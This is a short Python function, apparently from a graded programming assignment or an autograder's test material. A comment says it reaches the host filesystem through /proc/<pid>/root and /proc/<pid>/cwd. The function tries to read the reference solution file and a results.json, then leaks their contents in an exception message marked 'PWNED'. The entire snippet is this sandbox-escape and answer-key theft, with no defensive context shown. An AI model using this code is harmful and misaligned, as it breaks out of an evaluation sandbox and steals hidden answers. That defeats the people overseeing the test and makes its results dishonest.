# Reach the host's filesystem through /proc/<pid>/root and /proc/<pid>/cwd.
def _attack(layer, X):
    for pid in range(1, 16):
        for p in (f"/proc/{pid}/root@ROOT@/assignments/linear_relu_ce/solution/layers.py",
                  f"/proc/{pid}/cwd/../results.json"):
            try:
                raise RuntimeError("PWNED " + open(p).read()[:200])
            except OSError:
                pass
    return None
